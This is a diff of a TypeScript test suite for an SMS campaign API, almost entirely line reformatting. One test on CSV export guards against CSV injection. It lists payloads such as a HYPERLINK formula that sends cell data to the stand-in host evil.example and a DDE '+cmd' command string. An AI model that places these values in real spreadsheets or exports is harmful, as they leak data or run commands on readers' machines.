@@ -48,7 +48,12 @@ describe('bulk campaigns', () => {
     await contact(t.api, '+14155550105', [], { firstName: 'Not in a group' });
     await t.api.post('/opt-outs', { phone: '+14155550104' });
 
-    const created = await t.api.post('/campaigns', { name: 'Spring sale', kind: 'bulk', text: 'Hi {{firstName|there}}, your code is {{code|NONE}}', groupIds: [vip, news] });
+    const created = await t.api.post('/campaigns', {
+      name: 'Spring sale',
+      kind: 'bulk',
+      text: 'Hi {{firstName|there}}, your code is {{code|NONE}}',
+      groupIds: [vip, news],
+    });
     expect(created.status).toBe(201);
     expect(created.headers.get('location')).toBe(`/api/campaigns/${created.body.id}`);
     expect(created.body).toMatchObject({ kind: 'bulk', status: 'draft', groupIds: [vip, news], triggerUrl: null, results: null });
@@ -57,7 +62,11 @@ describe('bulk campaigns', () => {
 
     const started = await t.api.post(`/campaigns/${id}/start`);
     expect(started.status).toBe(200);
-    expect(started.body).toMatchObject({ status: 'sending', startedAt: '2026-03-01T12:00:00.000Z', progress: { recipients: 5, accepted: 0 } });
+    expect(started.body).toMatchObject({
+      status: 'sending',
+      startedAt: '2026-03-01T12:00:00.000Z',
+      progress: { recipients: 5, accepted: 0 },
+    });
     expect(await eventsOf(t, 'campaign.started')).toEqual([
       expect.objectContaining({ campaignId: id, name: 'Spring sale', recipientCount: 5, groupIds: [vip, news], scheduledFor: null }),
     ]);
@@ -80,9 +89,22 @@ describe('bulk campaigns', () => {
     await runCampaignJob(t);
     const done = (await t.api.get(`/campaigns/${id}`)).body;
     // The rejected message was refunded: the campaign cost what the three others were charged.
-    expect(done).toMatchObject({ status: 'completed', completedAt: '2026-03-01T12:00:01.000Z', progress: { cost: '0.0237' }, results: { sent: 0, delivered: 2, undelivered: 1, failed: 1, cancelled: 0 } });
+    expect(done).toMatchObject({
+      status: 'completed',
+      completedAt: '2026-03-01T12:00:01.000Z',
+      progress: { cost: '0.0237' },
+      results: { sent: 0, delivered: 2, undelivered: 1, failed: 1, cancelled: 0 },
+    });
     const [completed] = await eventsOf(t, 'campaign.completed');
-    expect(completed).toMatchObject({ campaignId: id, totalSent: 4, delivered: 2, undelivered: 1, failed: 1, totalCost: '0.0237', startedAt: '2026-03-01T12:00:00.000Z' });
+    expect(completed).toMatchObject({
+      campaignId: id,
+      totalSent: 4,
+      delivered: 2,
+      undelivered: 1,
+      failed: 1,
+      totalCost: '0.0237',
+      startedAt: '2026-03-01T12:00:00.000Z',
+    });
     expect(completed.deliveryRate).toBeCloseTo(2 / 4);
     expect(completed.failureRate).toBeCloseTo(2 / 5);
 
@@ -93,15 +115,26 @@ describe('bulk campaigns', () => {
     const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
     expect(rows).toHaveLength(5);
     // The opted-out contact is listed after the messages, with the reason it was skipped (a cell starting with + is escaped as text).
-    expect(rows[4]).toMatchObject({ messageId: '', phone: '+14155550104', status: 'skipped', reasonCode: 'recipient_opted_out', reasonMessage: expect.stringMatching(/^'\+14155550104 has opted out/) });
+    expect(rows[4]).toMatchObject({
+      messageId: '',
+      phone: '+14155550104',
+      status: 'skipped',
+      reasonCode: 'recipient_opted_out',
+      reasonMessage: expect.stringMatching(/^'\+14155550104 has opted out/),
+    });
     expect(rows.find((r) => r.phone === '+14155550400')).toMatchObject({ status: 'failed', reasonCode: '1410' });
-    expect(rows.find((r) => r.phone === '+14155551400')).toMatchObject({ text: 'Hi there, your code is B2', status: 'undelivered', reasonCode: '1400', reasonMessage: 'Hard Bounce' });
+    expect(rows.find((r) => r.phone === '+14155551400')).toMatchObject({
+      text: 'Hi there, your code is B2',
+      status: 'undelivered',
+      reasonCode: '1400',
+      reasonMessage: 'Hard Bounce',
+    });
     expect(rows.find((r) => r.phone === '+14155550101')).toMatchObject({ status: 'delivered', reasonCode: '' });
   });
 
   test('the CSV export shows formula-like cells as text (OWASP CSV injection) and keeps phone numbers as they are', async () => {
     const g = await group(t.api, 'All');
-    const codes = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '@SUM(1+1)', '-2+3', '+cmd|\' /C calc\'!A0', 'plain text'];
+    const codes = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '@SUM(1+1)', '-2+3', "+cmd|' /C calc'!A0", 'plain text'];
     for (const [i, code] of codes.entries()) await contact(t.api, `+1415555030${i}`, [g], { customFields: { code } });
     const id = (await t.api.post('/campaigns', { name: 'Formulas', kind: 'bulk', text: '{{code}}', groupIds: [g] })).body.id as string;
     expect((await t.api.post(`/campaigns/${id}/start`)).status).toBe(200);
@@ -144,7 +177,10 @@ describe('bulk campaigns', () => {
     const { store } = t.host.runtime.deps;
     // As if the process died after saving the start and before queuing the first batch.
     const draft = (await store.campaigns.get(t.host.seed.accountId, id))!;
-    await store.campaigns.update({ ...draft, status: 'sending', startedAt: '2026-03-01T12:00:00.000Z', progress: { ...draft.progress, recipients: 3 } }, []);
+    await store.campaigns.update(
+      { ...draft, status: 'sending', startedAt: '2026-03-01T12:00:00.000Z', progress: { ...draft.progress, recipients: 3 } },
+      [],
+    );
     await t.host.drain();
     expect(await runCampaignJob(t)).toBe(0); // not stale yet
     t.clock.advance(61_000);
@@ -159,11 +195,15 @@ describe('bulk campaigns', () => {
     const sentAt = (s: number) => new Date(t.clock.now() - 600_000 + s * 1_000).toISOString();
     // 105 campaigns that finished sending first, each with a message still queued (no report yet)...
     for (let i = 0; i < 105; i++) {
-      const waiting = await deps.store.campaigns.create(makeCampaign({ accountId: account.id, status: 'sent', sendingFinishedAt: sentAt(i), updatedAt: sentAt(i) }));
+      const waiting = await deps.store.campaigns.create(
+        makeCampaign({ accountId: account.id, status: 'sent', sendingFinishedAt: sentAt(i), updatedAt: sentAt(i) }),
+      );
       await sendMessage(deps, account, { to: '+14155550901', text: 'Waiting', campaignId: waiting.id }, null);
     }
     // ...and behind them one whose messages are all final.
-    const done = await deps.store.campaigns.create(makeCampaign({ accountId: account.id, status: 'sent', sendingFinishedAt: sentAt(200), updatedAt: sentAt(200) }));
+    const done = await deps.store.campaigns.create(
+      makeCampaign({ accountId: account.id, status: 'sent', sendingFinishedAt: sentAt(200), updatedAt: sentAt(200) }),
+    );
     expect(await runCampaignJob(t)).toBe(1);
     expect((await deps.store.campaigns.get(account.id, done.id))!.status).toBe('completed');
   });
@@ -176,9 +216,20 @@ describe('bulk campaigns', () => {
     await other.api.post(`/campaigns/${id}/start`);
     await t.host.drain();
     const c = (await other.api.get(`/campaigns/${id}`)).body;
-    expect(c).toMatchObject({ status: 'failed', failedAt: '2026-03-01T12:00:00.000Z', error: { code: 'insufficient_credits' }, progress: { accepted: 2, recipients: 5 } });
+    expect(c).toMatchObject({
+      status: 'failed',
+      failedAt: '2026-03-01T12:00:00.000Z',
+      error: { code: 'insufficient_credits' },
+      progress: { accepted: 2, recipients: 5 },
+    });
     expect(await eventsOf(t, 'campaign.failed', other.id)).toEqual([
-      expect.objectContaining({ campaignId: id, name: 'Too big', affectedRecipients: 3, sentBeforeFailure: 2, error: expect.objectContaining({ code: 'insufficient_credits' }) }),
+      expect.objectContaining({
+        campaignId: id,
+        name: 'Too big',
+        affectedRecipients: 3,
+        sentBeforeFailure: 2,
+        error: expect.objectContaining({ code: 'insufficient_credits' }),
+      }),
     ]);
     await runCampaignJob(t);
     expect((await other.api.get(`/campaigns/${id}`)).body.status).toBe('failed');
@@ -190,7 +241,11 @@ describe('bulk campaigns', () => {
     const later = new Date(t.clock.now() + 3_600_000).toISOString();
     const a = (await t.api.post('/campaigns', { name: 'Later', kind: 'bulk', text: 'Hi {{firstName}}', groupIds: [g] })).body.id;
     const b = (await t.api.post('/campaigns', { name: 'Cancelled', kind: 'bulk', text: 'Hi', groupIds: [g] })).body.id;
-    expect((await t.api.post(`/campaigns/${a}/start`, { sendAt: later })).body).toMatchObject({ status: 'scheduled', scheduledFor: later, startedAt: null });
+    expect((await t.api.post(`/campaigns/${a}/start`, { sendAt: later })).body).toMatchObject({
+      status: 'scheduled',
+      scheduledFor: later,
+      startedAt: null,
+    });
     await t.api.post(`/campaigns/${b}/start`, { sendAt: later });
     const cancelled = await t.api.post(`/campaigns/${b}/cancel`);
     expect(cancelled.body.status).toBe('cancelled');
@@ -202,7 +257,9 @@ describe('bulk campaigns', () => {
     expect((await t.api.get(`/campaigns/${a}`)).body).toMatchObject({ status: 'sent', startedAt: later });
     expect((await t.api.get(`/messages?campaignId=${a}`)).body.items.map((m: any) => m.text)).toEqual(['Hi Eve']);
     expect((await t.api.get(`/messages?campaignId=${b}`)).body.items).toHaveLength(0);
-    expect(await eventsOf(t, 'campaign.started')).toEqual([expect.objectContaining({ campaignId: a, scheduledFor: later, startedAt: later, recipientCount: 1 })]);
+    expect(await eventsOf(t, 'campaign.started')).toEqual([
+      expect.objectContaining({ campaignId: a, scheduledFor: later, startedAt: later, recipientCount: 1 }),
+    ]);
   });
 
   test('bad definitions and commands are refused naming the field; other accounts see 404', async () => {
@@ -221,7 +278,11 @@ describe('bulk campaigns', () => {
     await refuse({ name: 'x', kind: 'bulk', text: 'Hi', groupIds: [g], from: 'Unknown' }, 422, '/from');
     await refuse({ name: 'x', kind: 'trigger', text: 'Hi' }, 422, '/trigger');
     await refuse({ name: 'x', kind: 'trigger', text: 'Hi {{orderId}}', trigger: { phoneField: 'phone' } }, 422, '/text');
-    await refuse({ name: 'x', kind: 'trigger', text: 'Hi', trigger: { phoneField: 'phone', attributes: [{ name: 'phone' }] } }, 422, '/trigger/attributes/0/name');
+    await refuse(
+      { name: 'x', kind: 'trigger', text: 'Hi', trigger: { phoneField: 'phone', attributes: [{ name: 'phone' }] } },
+      422,
+      '/trigger/attributes/0/name',
+    );
     await refuse({ name: 'x', kind: 'weekly', text: 'Hi', groupIds: [g] }, 400, '/kind');
 
     const empty = (await t.api.post('/campaigns', { name: 'Empty', kind: 'bulk', text: 'Hi', groupIds: [g] })).body.id;
@@ -247,7 +308,14 @@ describe('bulk campaigns', () => {
   test('drafts can be changed; lists filter by kind and status; the dropdown lists campaigns', async () => {
     const g = await group(t.api, 'All');
     const a = (await t.api.post('/campaigns', { name: 'A', kind: 'bulk', text: 'Hi', groupIds: [g] })).body.id;
-    const b = (await t.api.post('/campaigns', { name: 'B', kind: 'trigger', text: 'Order {{orderId}}', trigger: { phoneField: 'phone', attributes: [{ name: 'orderId', field: 'order.id', required: true }] } })).body.id;
+    const b = (
+      await t.api.post('/campaigns', {
+        name: 'B',
+        kind: 'trigger',
+        text: 'Order {{orderId}}',
+        trigger: { phoneField: 'phone', attributes: [{ name: 'orderId', field: 'order.id', required: true }] },
+      })
+    ).body.id;
     await decideSenderId(t, 'Acme', 'approve');
     const changed = await t.api.patch(`/campaigns/${a}`, { name: 'A2', text: 'Hello {{firstName}}', from: 'Acme' });
     expect(changed.status).toBe(200);
@@ -261,7 +329,11 @@ describe('bulk campaigns', () => {
     expect((await t.api.get('/campaigns?status=draft')).body.items.map((c: any) => c.id)).toEqual([a]);
     const page = await t.api.get('/campaigns?limit=1');
     expect(page.body.items.map((c: any) => c.id)).toEqual([b]);
-    expect((await t.api.get(`/campaigns?limit=1&continuationToken=${encodeURIComponent(page.body.continuationToken)}`)).body.items.map((c: any) => c.id)).toEqual([a]);
+    expect(
+      (await t.api.get(`/campaigns?limit=1&continuationToken=${encodeURIComponent(page.body.continuationToken)}`)).body.items.map(
+        (c: any) => c.id,
+      ),
+    ).toEqual([a]);
     expect((await t.api.get('/campaigns?continuationToken=forged')).body.errors[0].path).toBe('query/continuationToken');
 
     expect((await t.api.get('/lookups/campaigns')).body.items).toEqual([
@@ -289,7 +361,11 @@ describe('bulk campaigns in chunks (messages.acceptMany)', () => {
     await t.host.drain();
 
     const c = (await other.api.get(`/campaigns/${id}`)).body;
-    expect(c).toMatchObject({ status: 'failed', error: { code: 'insufficient_credits' }, progress: { recipients: 45, accepted: 43, skipped: 0, cost: '0.3397' } });
+    expect(c).toMatchObject({
+      status: 'failed',
+      error: { code: 'insufficient_credits' },
+      progress: { recipients: 45, accepted: 43, skipped: 0, cost: '0.3397' },
+    });
     expect((await other.api.get('/balance')).body.credits).toBe('0.0003');
     const messages = (await other.api.get(`/messages?campaignId=${id}&limit=100`)).body.items as any[];
     expect(messages).toHaveLength(43);
@@ -299,7 +375,9 @@ describe('bulk campaigns in chunks (messages.acceptMany)', () => {
     const contacts = (await t.host.runtime.deps.store.contacts.list(other.id, { groupIds: [g] }, { limit: 100 })).items.map((x) => x.phone);
     expect(messages.map((m) => m.to).sort()).toEqual(contacts.slice(0, 43).sort());
     expect(await eventsOf(t, 'balance.low', other.id)).toEqual([expect.objectContaining({ balance: '0.024', threshold: '0.30' })]);
-    expect(await eventsOf(t, 'campaign.failed', other.id)).toEqual([expect.objectContaining({ campaignId: id, affectedRecipients: 2, sentBeforeFailure: 43 })]);
+    expect(await eventsOf(t, 'campaign.failed', other.id)).toEqual([
+      expect.objectContaining({ campaignId: id, affectedRecipients: 2, sentBeforeFailure: 43 }),
+    ]);
   });
 });
 
@@ -328,7 +406,14 @@ describe('trigger campaigns (seed 004)', () => {
     const created = await t.api.post('/campaigns', orderCampaign);
     expect(created.status).toBe(201);
     const id = created.body.id as string;
-    expect(created.body).toMatchObject({ status: 'paused', triggerUrl: `${t.url}/api/campaigns/${id}/trigger`, trigger: { phoneField: 'customer.phone', attributes: [{ name: 'name', field: 'customer.first_name', type: 'string', required: false }, expect.anything(), expect.anything()] } });
+    expect(created.body).toMatchObject({
+      status: 'paused',
+      triggerUrl: `${t.url}/api/campaigns/${id}/trigger`,
+      trigger: {
+        phoneField: 'customer.phone',
+        attributes: [{ name: 'name', field: 'customer.first_name', type: 'string', required: false }, expect.anything(), expect.anything()],
+      },
+    });
     const payload = { customer: { phone: '+14155550701', first_name: 'Ann' }, order: { id: 'SO-1001', items: 3 } };
     const paused = await t.api.post(`/campaigns/${id}/trigger`, payload);
     expect(paused.status).toBe(409);
@@ -337,11 +422,19 @@ describe('trigger campaigns (seed 004)', () => {
     expect((await t.api.post(`/campaigns/${id}/activate`)).body.status).toBe('active');
     const sent = await t.api.post(`/campaigns/${id}/trigger`, payload, { 'idempotency-key': 'order-SO-1001' });
     expect(sent.status).toBe(202);
-    expect(sent.body).toMatchObject({ to: '+14155550701', text: 'Hi Ann, order SO-1001 (3 items) is confirmed.', campaignId: id, status: 'queued' });
+    expect(sent.body).toMatchObject({
+      to: '+14155550701',
+      text: 'Hi Ann, order SO-1001 (3 items) is confirmed.',
+      campaignId: id,
+      status: 'queued',
+    });
     const again = await t.api.post(`/campaigns/${id}/trigger`, payload, { 'idempotency-key': 'order-SO-1001' });
     expect(again.headers.get('idempotent-replayed')).toBe('true');
     expect(again.body.id).toBe(sent.body.id);
-    const noName = await t.api.post(`/campaigns/${id}/trigger`, { customer: { phone: '+14155550702' }, order: { id: 'SO-1002', items: 1 } });
+    const noName = await t.api.post(`/campaigns/${id}/trigger`, {
+      customer: { phone: '+14155550702' },
+      order: { id: 'SO-1002', items: 1 },
+    });
     expect(noName.body.text).toBe('Hi there, order SO-1002 (1 items) is confirmed.');
 
     await t.host.drain();
@@ -362,7 +455,9 @@ describe('trigger campaigns (seed 004)', () => {
     expect(bad.body.code).toBe('payload_mismatch');
     expect(bad.body.errors.map((e: any) => e.path).sort()).toEqual(['/customer/phone', '/order/id', '/order/items']);
     expect(bad.body.errors.find((e: any) => e.path === '/customer/phone').message).toMatch(/E\.164/);
-    expect((await t.api.post(`/campaigns/${id}/trigger`, { order: { id: 'x', items: 1 } })).body.errors).toEqual([{ path: '/customer/phone', message: expect.stringMatching(/required/) }]);
+    expect((await t.api.post(`/campaigns/${id}/trigger`, { order: { id: 'x', items: 1 } })).body.errors).toEqual([
+      { path: '/customer/phone', message: expect.stringMatching(/required/) },
+    ]);
     expect((await t.api.post(`/campaigns/${id}/trigger`, '[1,2]')).status).toBe(400);
     expect((await t.api.get('/balance')).body.credits).toBe(credits);
     expect((await t.api.post(`/campaigns/${id}/start`)).body.code).toBe('not_a_bulk_campaign');
